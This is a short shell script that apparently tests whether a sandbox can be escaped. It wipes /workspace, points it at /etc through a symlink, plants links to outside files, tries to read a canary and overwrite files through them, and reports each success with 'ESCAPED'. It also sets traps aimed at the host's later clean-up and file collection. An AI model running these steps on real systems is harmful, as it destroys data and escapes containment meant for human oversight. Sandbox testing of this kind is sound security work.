cd /
while read -r name value; do [ "$name" = file ] && files+=("$value"); done
rm -rf /workspace/* /workspace/.[!.]* 2>/dev/null
mv /workspace /workspace.old 2>/dev/null && echo 'ESCAPED: moved the workspace'
rmdir /workspace 2>/dev/null && echo 'ESCAPED: removed the workspace'
ln -sfn /etc /workspace 2>/dev/null
for file in "${files[@]}"; do
  ln -sf "$file" /workspace/main.sh
  ln -sf "$(dirname "$file")" "/workspace/folder"
  cat /workspace/main.sh /workspace/folder/canary 2>/dev/null && echo 'ESCAPED: followed'
  { echo planted > /workspace/main.sh; } 2>/dev/null && echo "ESCAPED: wrote $file"
done
chmod 000 /workspace
# The clean-up and the collection of files after the program now meet these links.
exit 0
